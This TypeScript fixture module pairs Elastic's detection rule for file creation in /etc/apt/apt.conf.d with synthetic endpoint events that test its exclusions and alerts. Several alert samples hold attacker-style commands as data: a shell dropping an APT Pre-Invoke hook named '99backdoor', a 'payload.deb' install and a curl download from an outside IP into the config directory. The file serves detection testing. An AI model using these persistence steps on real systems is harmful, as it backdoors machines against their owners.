/**
 * The default example: Elastic's "APT Package Manager Configuration File Creation" rule, as
 * published on its rule reference page (version 5, query verbatim), and sample Elastic Defend
 * Linux file events written for this project. Together they cover every exclusion family of the
 * rule, each base-condition failure, and true alerts.
 */

export interface ExampleTechnique {
  readonly id: string;
  readonly name: string;
  readonly reference: string;
  readonly subtechniques?: readonly ExampleTechnique[];
}

export interface ExampleThreat {
  readonly framework: string;
  readonly tactic: { readonly id: string; readonly name: string; readonly reference: string };
  readonly techniques: readonly ExampleTechnique[];
}

export interface ExampleMetadata {
  readonly name: string;
  readonly description: string;
  readonly severity: string;
  readonly riskScore: number;
  readonly indices: readonly string[];
  readonly interval: string;
  readonly from: string;
  readonly maxSignals: number;
  readonly references: readonly string[];
  readonly tags: readonly string[];
  readonly version: number;
  readonly threat: readonly ExampleThreat[];
}

export const defaultQuery = `file where host.os.type == "linux" and event.action in ("rename", "creation") and
file.path : "/etc/apt/apt.conf.d/*" and not (
  process.executable in (
    "/bin/dpkg", "/usr/bin/dpkg", "/bin/dockerd", "/usr/bin/dockerd", "/usr/sbin/dockerd", "/bin/microdnf",
    "/usr/bin/microdnf", "/bin/rpm", "/usr/bin/rpm", "/bin/snapd", "/usr/bin/snapd", "/bin/yum", "/usr/bin/yum",
    "/bin/dnf", "/usr/bin/dnf", "/bin/podman", "/usr/bin/podman", "/bin/dnf-automatic", "/usr/bin/dnf-automatic",
    "/bin/pacman", "/usr/bin/pacman", "/usr/bin/dpkg-divert", "/bin/dpkg-divert", "/sbin/apk", "/usr/sbin/apk",
    "/usr/local/sbin/apk", "/usr/bin/apt", "/usr/sbin/pacman", "/bin/podman", "/usr/bin/podman", "/usr/bin/puppet",
    "/bin/puppet", "/opt/puppetlabs/puppet/bin/puppet", "/usr/bin/chef-client", "/bin/chef-client",
    "/bin/autossl_check", "/usr/bin/autossl_check", "/proc/self/exe", "/dev/fd/*",  "/usr/bin/pamac-daemon",
    "/bin/pamac-daemon", "/usr/lib/snapd/snapd", "/usr/local/bin/dockerd", "/usr/libexec/netplan/generate",
    "/usr/local/bin/apt-get", "/usr/bin/apt-get"
  ) or
  file.path :("/etc/apt/apt.conf.d/*.tmp*") or
  file.extension in ("swp", "swpx", "swx", "dpkg-remove") or
  file.Ext.original.extension == "dpkg-new" or
  process.executable : (
    "/nix/store/*", "/var/lib/dpkg/*", "/tmp/vmis.*", "/snap/*", "/dev/fd/*", "/usr/lib/*", "/usr/libexec/*",
    "/etc/kernel/*"
  ) or
  process.executable == null or
  process.name in ("pveupdate", "perl", "executor", "crio", "docker-init", "dockerd", "pvedaemon") or
  (process.name == "sed" and file.name : "sed*") or
  (process.name == "perl" and file.name : "e2scrub_all.tmp*")
)
`;

const attack = (path: string) => `https://attack.mitre.org/${path}/`;

export const defaultMetadata: ExampleMetadata = {
  name: 'APT Package Manager Configuration File Creation',
  description:
    'Detects file creation events in the configuration directory for the APT package manager. Attackers can backdoor APT to gain persistence by injecting malicious code into scripts that APT runs.',
  severity: 'medium',
  riskScore: 47,
  indices: ['logs-endpoint.events.file*'],
  interval: '5m',
  from: 'now-9m',
  maxSignals: 100,
  references: [
    'https://packetstormsecurity.com/files/152668/APT-Package-Manager-Persistence.html',
    'https://www.elastic.co/security-labs/sequel-on-persistence-mechanisms',
  ],
  tags: [
    'Domain: Endpoint',
    'OS: Linux',
    'Use Case: Threat Detection',
    'Tactic: Persistence',
    'Tactic: Defense Evasion',
    'Data Source: Elastic Defend',
    'Resources: Investigation Guide',
  ],
  version: 5,
  threat: [
    {
      framework: 'MITRE ATT&CK',
      tactic: { id: 'TA0003', name: 'Persistence', reference: attack('tactics/TA0003') },
      techniques: [
        { id: 'T1543', name: 'Create or Modify System Process', reference: attack('techniques/T1543') },
        {
          id: 'T1546',
          name: 'Event Triggered Execution',
          reference: attack('techniques/T1546'),
          subtechniques: [{ id: 'T1546.016', name: 'Installer Packages', reference: attack('techniques/T1546/016') }],
        },
        { id: 'T1574', name: 'Hijack Execution Flow', reference: attack('techniques/T1574') },
      ],
    },
    {
      framework: 'MITRE ATT&CK',
      tactic: { id: 'TA0005', name: 'Defense Evasion', reference: attack('tactics/TA0005') },
      techniques: [],
    },
  ],
};

/* ───────────── sample events (Elastic Defend shape: nested objects, arrays where Defend uses them) ───────────── */

const host = {
  architecture: 'x86_64',
  hostname: 'web-01',
  name: 'web-01',
  id: '5f1e2a9c0b7d4e3f8a6c1d2e3f4a5b6c',
  ip: ['127.0.0.1', '::1', '10.20.0.15'],
  mac: ['52-54-00-12-34-56'],
  os: {
    type: 'linux',
    family: 'debian',
    platform: 'ubuntu',
    name: 'Linux',
    full: 'Ubuntu 22.04.4',
    version: '22.04.4',
    kernel: '5.15.0-105-generic #115-Ubuntu SMP',
    Ext: { variant: 'Ubuntu' },
  },
};

interface Spec {
  readonly id: string;
  readonly time: string;
  readonly action: 'creation' | 'rename' | 'deletion';
  readonly path: string;
  readonly process?: {
    readonly executable?: string;
    readonly name: string;
    readonly pid: number;
    readonly args: string;
  };
  readonly original?: string;
  readonly category?: readonly string[];
  readonly os?: string;
}

function fileEvent(s: Spec): Record<string, unknown> {
  const name = s.path.slice(s.path.lastIndexOf('/') + 1);
  const dot = name.lastIndexOf('.');
  const extension = dot > 0 ? name.slice(dot + 1) : undefined;
  const file: Record<string, unknown> = { path: s.path, name, ...(extension ? { extension } : {}), size: 312 };
  if (s.original) {
    const oname = s.original.slice(s.original.lastIndexOf('/') + 1);
    const odot = oname.lastIndexOf('.');
    file.Ext = {
      original: { path: s.original, name: oname, ...(odot > 0 ? { extension: oname.slice(odot + 1) } : {}) },
    };
  }
  const p = s.process;
  return {
    '@timestamp': s.time,
    agent: { id: 'a3c1b2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d', type: 'endpoint', version: '8.17.4' },
    ecs: { version: '8.11.0' },
    event: {
      id: s.id,
      kind: 'event',
      module: 'endpoint',
      dataset: 'endpoint.events.file',
      category: s.category ?? ['file'],
      type: [s.action === 'rename' ? 'change' : s.action],
      action: s.action,
      outcome: 'success',
    },
    file,
    host: s.os ? { ...host, os: { ...host.os, type: s.os } } : host,
    process: p
      ? {
          pid: p.pid,
          entity_id: `ZmE0ZjVk${p.pid}`,
          ...(p.executable !== undefined ? { executable: p.executable } : {}),
          name: p.name,
          command_line: p.args,
        }
      : undefined,
    user: { id: '0', name: 'root' },
    message: 'Endpoint file event',
  };
}

const dir = '/etc/apt/apt.conf.d';

export const defaultEvents: readonly Record<string, unknown>[] = [
  // suppressed: exact executable in the allowlist
  fileEvent({
    id: 'apt-01',
    time: '2026-03-02T10:00:01.000Z',
    action: 'creation',
    path: `${dir}/50unattended-upgrades`,
    process: { executable: '/usr/bin/dpkg', name: 'dpkg', pid: 4101, args: 'dpkg --configure -a' },
  }),
  // suppressed: temporary file pattern
  fileEvent({
    id: 'apt-02',
    time: '2026-03-02T10:00:05.000Z',
    action: 'creation',
    path: `${dir}/20auto-upgrades.tmp.8c1f`,
    process: {
      executable: '/usr/sbin/unattended-upgrade',
      name: 'unattended-upgr',
      pid: 4150,
      args: '/usr/bin/python3 /usr/sbin/unattended-upgrade',
    },
  }),
  // suppressed: editor swap file extension
  fileEvent({
    id: 'apt-03',
    time: '2026-03-02T10:01:12.000Z',
    action: 'creation',
    path: `${dir}/.99proxy.swp`,
    process: { executable: '/usr/bin/vim.basic', name: 'vim', pid: 5120, args: 'vim /etc/apt/apt.conf.d/99proxy' },
  }),
  // suppressed: renamed from a .dpkg-new file
  fileEvent({
    id: 'apt-04',
    time: '2026-03-02T10:01:30.000Z',
    action: 'rename',
    path: `${dir}/20packagekit`,
    original: `${dir}/20packagekit.dpkg-new`,
    process: {
      executable: '/usr/bin/python3.11',
      name: 'python3.11',
      pid: 5201,
      args: 'python3.11 /usr/lib/update-notifier/apt-check',
    },
  }),
  // suppressed: executable under a wildcard-allowlisted directory
  fileEvent({
    id: 'apt-05',
    time: '2026-03-02T10:02:00.000Z',
    action: 'creation',
    path: `${dir}/99nix-apt`,
    process: {
      executable: '/nix/store/3f9a2k-apt-2.6.1/bin/apt-config',
      name: 'apt-config',
      pid: 5302,
      args: 'apt-config dump',
    },
  }),
  // suppressed: "/dev/fd/*" is literal under `in` but a wildcard under `:`
  fileEvent({
    id: 'apt-06',
    time: '2026-03-02T10:02:20.000Z',
    action: 'creation',
    path: `${dir}/01fdexec`,
    process: { executable: '/dev/fd/3', name: '3', pid: 5377, args: '/dev/fd/3' },
  }),
  // suppressed: no process.executable at all
  fileEvent({
    id: 'apt-07',
    time: '2026-03-02T10:02:45.000Z',
    action: 'creation',
    path: `${dir}/30nobin`,
    process: { name: 'kworker/u8:2', pid: 88, args: '' },
  }),
  // suppressed: process name allowlist (perl) and the perl e2scrub group
  fileEvent({
    id: 'apt-08',
    time: '2026-03-02T10:03:10.000Z',
    action: 'creation',
    path: `${dir}/e2scrub_all.tmp.k2J9`,
    process: { executable: '/usr/bin/perl', name: 'perl', pid: 5410, args: 'perl /usr/sbin/e2scrub_all' },
  }),
  // suppressed: sed -i writes its temporary sedXXXXXX file
  fileEvent({
    id: 'apt-09',
    time: '2026-03-02T10:03:40.000Z',
    action: 'creation',
    path: `${dir}/sedq1W2e3`,
    process: {
      executable: '/usr/bin/sed',
      name: 'sed',
      pid: 5502,
      args: 'sed -i s/Enable "1"/Enable "0"/ /etc/apt/apt.conf.d/10periodic',
    },
  }),
  // no match: not a file event (category)
  fileEvent({
    id: 'apt-10',
    time: '2026-03-02T10:04:00.000Z',
    action: 'creation',
    path: `${dir}/99proc`,
    category: ['process'],
    process: { executable: '/usr/bin/bash', name: 'bash', pid: 5600, args: 'bash' },
  }),
  // no match: not a Linux host
  fileEvent({
    id: 'apt-11',
    time: '2026-03-02T10:04:20.000Z',
    action: 'creation',
    path: `${dir}/99mac`,
    os: 'macos',
    process: { executable: '/bin/zsh', name: 'zsh', pid: 5650, args: 'zsh' },
  }),
  // no match: a deletion, not a creation or rename
  fileEvent({
    id: 'apt-12',
    time: '2026-03-02T10:04:40.000Z',
    action: 'deletion',
    path: `${dir}/99old`,
    process: { executable: '/usr/bin/rm', name: 'rm', pid: 5701, args: 'rm -f /etc/apt/apt.conf.d/99old' },
  }),
  // no match: outside the APT configuration directory
  fileEvent({
    id: 'apt-13',
    time: '2026-03-02T10:05:00.000Z',
    action: 'creation',
    path: '/etc/apt/sources.list.d/mirror.list',
    process: {
      executable: '/usr/bin/bash',
      name: 'bash',
      pid: 5755,
      args: 'bash -c echo deb ... > /etc/apt/sources.list.d/mirror.list',
    },
  }),
  // alert: a shell drops a hook into apt.conf.d (no extension at all)
  fileEvent({
    id: 'apt-14',
    time: '2026-03-02T10:05:30.000Z',
    action: 'creation',
    path: `${dir}/99backdoor`,
    process: {
      executable: '/usr/bin/bash',
      name: 'bash',
      pid: 6001,
      args: 'bash -c echo APT::Update::Pre-Invoke {...} > /etc/apt/apt.conf.d/99backdoor',
    },
  }),
  // alert: a renamed-in file whose previous name was not a dpkg-new file
  fileEvent({
    id: 'apt-15',
    time: '2026-03-02T10:06:00.000Z',
    action: 'rename',
    path: `${dir}/01persist`,
    original: '/tmp/.x/01persist.conf',
    process: {
      executable: '/usr/bin/mv',
      name: 'mv',
      pid: 6050,
      args: 'mv /tmp/.x/01persist.conf /etc/apt/apt.conf.d/01persist',
    },
  }),
  // alert: a look-alike dpkg outside the allowlisted paths (`in` is exact and case-sensitive)
  fileEvent({
    id: 'apt-16',
    time: '2026-03-02T10:06:30.000Z',
    action: 'creation',
    path: `${dir}/99update-hook`,
    process: {
      executable: '/usr/local/bin/dpkg',
      name: 'dpkg',
      pid: 6102,
      args: '/usr/local/bin/dpkg --install payload.deb',
    },
  }),
  // alert: a download written straight into the directory
  fileEvent({
    id: 'apt-17',
    time: '2026-03-02T10:07:00.000Z',
    action: 'creation',
    path: `${dir}/95proxy`,
    process: {
      executable: '/usr/bin/curl',
      name: 'curl',
      pid: 6150,
      args: 'curl -fsSL -o /etc/apt/apt.conf.d/95proxy http://198.51.100.7/p',
    },
  }),
].map((e) => JSON.parse(JSON.stringify(e)) as Record<string, unknown>);

export const defaultEventsText = `${JSON.stringify(defaultEvents, null, 2)}\n`;

export const defaultExample = {
  query: defaultQuery,
  metadata: defaultMetadata,
  events: defaultEventsText,
} as const;
